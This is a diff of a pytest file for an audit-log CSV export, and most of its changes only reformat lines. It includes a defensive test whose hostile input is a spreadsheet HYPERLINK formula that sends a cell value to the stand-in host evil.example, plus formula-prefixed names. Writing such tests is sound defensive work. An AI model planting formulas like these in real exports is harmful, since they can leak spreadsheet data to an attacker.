@@ -46,8 +46,18 @@ def exported(as_auditor):
 
 
 def test_a_story_is_one_line_with_reason_ticket_and_ending_side_by_side(exported):
-    head = event(alias="ping", session_id="ses_8f2", client="Café", reason="Customer approved", ticket="INC-4420")
-    answer = {"upstream_status": 500, "upstream_code": "internal", "detail": {"message": "try again"}}
+    head = event(
+        alias="ping",
+        session_id="ses_8f2",
+        client="Café",
+        reason="Customer approved",
+        ticket="INC-4420",
+    )
+    answer = {
+        "upstream_status": 500,
+        "upstream_code": "internal",
+        "detail": {"message": "try again"},
+    }
     last = event(phase="outcome", result="unknown", story=head.seq, by=BEN, **answer)
 
     (line,) = exported()
@@ -56,10 +66,22 @@ def test_a_story_is_one_line_with_reason_ticket_and_ending_side_by_side(exported
     assert line["at"] == chain.plain(head.at) and line["at"].endswith("Z")
     assert (line["actor_name"], line["actor_role"]) == ("ana", "support")
     assert (line["action"], line["alias"], line["session_id"]) == ("resume", "ping", "ses_8f2")
-    assert (line["client"], line["reason"], line["ticket"]) == ("Café", "Customer approved", "INC-4420")
+    assert (line["client"], line["reason"], line["ticket"]) == (
+        "Café",
+        "Customer approved",
+        "INC-4420",
+    )
     assert (line["ending"], line["result"], line["verified"]) == ("Unknown", "unknown", "")
-    assert (line["upstream_status"], line["upstream_code"], line["message"]) == ("500", "internal", "try again")
-    assert (line["last_at"], line["events"], line["row_hash"]) == (chain.plain(last.at), "2", head.row_hash)
+    assert (line["upstream_status"], line["upstream_code"], line["message"]) == (
+        "500",
+        "internal",
+        "try again",
+    )
+    assert (line["last_at"], line["events"], line["row_hash"]) == (
+        chain.plain(last.at),
+        "2",
+        head.row_hash,
+    )
 
 
 def test_each_line_says_its_place_and_which_export_it_is_from(exported, auditor):
@@ -69,9 +91,12 @@ def test_each_line_says_its_place_and_which_export_it_is_from(exported, auditor)
     lines = exported("?actor=ana&since=2026-01-01")
 
     assert [(line["line"], line["lines"]) for line in lines] == [("1", "3"), ("2", "3"), ("3", "3")]
-    assert all(line["export"].startswith(f"export #7 by {auditor.username} at 20") for line in lines)
     assert all(
-        line["export"].endswith(": actor=ana&since=2026-01-01, since 2026-01-01T00:00:00.000000Z") for line in lines
+        line["export"].startswith(f"export #7 by {auditor.username} at 20") for line in lines
+    )
+    assert all(
+        line["export"].endswith(": actor=ana&since=2026-01-01, since 2026-01-01T00:00:00.000000Z")
+        for line in lines
     )
 
 
@@ -89,7 +114,13 @@ def test_hostile_words_come_back_as_text_in_one_cell(exported):
     hostile = '=HYPERLINK("http://evil.example/?x="&A1;"click"),\'; =1+1'
     texts = dict.fromkeys(["session_id", "client", "reason", "ticket"], hostile)
     head = event(alias="ping", **texts)
-    event(phase="outcome", result="rejected", story=head.seq, upstream_status=-5, detail={"message": hostile})
+    event(
+        phase="outcome",
+        result="rejected",
+        story=head.seq,
+        upstream_status=-5,
+        detail={"message": hostile},
+    )
 
     (line,) = exported()
 
@@ -103,11 +134,17 @@ def test_a_person_cannot_name_themselves_a_formula(exported):
 
     (line,) = exported()
 
-    assert (line["actor_name"], line["actor_role"], line["source_address"]) == ("'@SUM(1)", "'-role", "'+1")
+    assert (line["actor_name"], line["actor_role"], line["source_address"]) == (
+        "'@SUM(1)",
+        "'-role",
+        "'+1",
+    )
     assert line["request_id"] == "'=2"
 
 
-@pytest.mark.parametrize("text", ["Customer approved", "a = b", "x-y", "1;2", "", "ses_8f2", "é", "#1", "a; b"])
+@pytest.mark.parametrize(
+    "text", ["Customer approved", "a = b", "x-y", "1;2", "", "ses_8f2", "é", "#1", "a; b"]
+)
 def test_harmless_words_stay_as_they_are(text):
     assert harmless(text) == text
 
@@ -115,7 +152,9 @@ def test_harmless_words_stay_as_they_are(text):
 @given(st.text(max_size=30))
 def test_whatever_is_written_reads_back_as_one_harmless_cell(text):
     written = io.StringIO()
-    csv.writer(written, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow([harmless(text), "next"])
+    csv.writer(written, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(
+        [harmless(text), "next"]
+    )
 
     (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
 
